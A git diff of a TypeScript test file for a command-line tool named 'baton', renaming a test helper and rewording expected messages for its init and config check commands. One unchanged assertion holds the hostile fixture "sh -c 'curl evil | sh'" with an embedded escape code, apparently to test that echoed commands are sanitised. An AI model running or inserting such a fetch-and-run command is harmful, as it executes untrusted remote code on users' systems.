@@ -15,7 +15,8 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterEach, beforeEach, describe, expect, test } from 'vitest'
 import { FIVE_TEAM, projectConfigFaults, readProjectConfig } from '../../src/protocol/index.ts'
-import { type Ran, ROOT, type RunOptions, runBaton } from '../support/run-baton.ts'
+import { type Ran, ROOT, type RunOptions } from '../support/run-baton.ts'
+import { runCommand } from '../support/run-command.ts'
 
 let folder: string
 beforeEach(() => {
@@ -31,7 +32,7 @@ const TWO_TEAM = join(ROOT, 'examples', 'pipelines', 'two-team.json')
 const PATH = ['/usr/bin', '/bin'].join(':')
 
 function run(args: string, options: RunOptions = {}): Promise<Ran> {
-  return runBaton(args.split(' '), { cwd: folder, ...options, env: { PATH, ...options.env } })
+  return runCommand(args.split(' '), { cwd: folder, ...options, env: { PATH, ...options.env } })
 }
 
 async function json<T>(args: string, options: RunOptions = {}): Promise<T> {
@@ -157,7 +158,7 @@ describe('baton init', { timeout: 120_000 }, () => {
     const ran = await run('init')
     expect(ran.code).toBe(0)
     expect(text()).toBe(before)
-    expect(ran.stdout).toContain(`${written} is there already and was left as it is`)
+    expect(ran.stdout).toContain(`${written} already exists and was not changed`)
     expect(ran.stdout).toContain("sh -c 'curl evil | sh\\u001b[2K'\n")
     expect(ran.stdout).not.toContain('\u001b')
     expect(readdirSync(folder).sort()).toEqual(['.baton', '.git', CONFIG])
@@ -222,7 +223,7 @@ describe('baton config check', { timeout: 120_000 }, () => {
       "claude -p '{prompt}' --output-format stream-json --verbose --permission-mode acceptEdits --settings '{\"disableAllHooks\":true}'\n",
     )
     expect(stdout).toContain(`'./a b' '{prompt}' '${long}'\n`)
-    expect(stdout).toMatch(/gets the variables: KEY\n/)
+    expect(stdout).toMatch(/environment variables: KEY\n/)
     expect(stdout).toMatch(/unit \(3 min\)\n {6}make test\n/)
     expect(stdout).toMatch(/limits: silent 2 min, in all 7 min/)
     expect(stdout).toContain('time zone: Asia/Seoul')
@@ -256,7 +257,7 @@ describe('baton config check', { timeout: 120_000 }, () => {
     const ran = await run('config check')
     expect(ran).toMatchObject({ code: 3, stdout: '' })
     expect(ran.stderr).toContain('[CONFIG_INVALID]')
-    expect(ran.stderr).toContain('    3:3 /timezon  is not a key that may stand here; the nearest one is timezone\n')
+    expect(ran.stderr).toContain('    3:3 /timezon  is not an allowed key here; the nearest one is timezone\n')
     expect(ran.stderr).toContain('    4:15 /agents/DEV  must be one of: rehearsal, claude, codex, gemini\n')
     expect(ran.stderr).toMatch(/ {4}4:31 \/agents\/LATER {2}names LATER, which is not a stage/)
     const korean = await run('config check --lang ko')
@@ -292,11 +293,11 @@ describe('baton config check', { timeout: 120_000 }, () => {
     await run('task create --title first')
     await run('task create --title second')
     config()
-    expect((await run('config check')).stdout).toMatch(/2 open tasks .+ began with the same definition/)
+    expect((await run('config check')).stdout).toMatch(/2 open tasks .+ started with the same definition/)
     const [, ...agents] = FIVE_TEAM.agents.toReversed()
     config({ pipeline: { ...FIVE_TEAM, agents, limits: { ...FIVE_TEAM.limits, max_revisions: 9 } } })
     const { stdout } = await run('config check')
-    expect(stdout).toMatch(/2 open tasks .+ keep the definition they began with/)
+    expect(stdout).toMatch(/2 open tasks .+ keep the definition they started with/)
     expect(stdout).toContain('    - agent kkomkkom\n')
     expect(stdout).toContain('    ~ limits\n')
     await run('task create --title third')
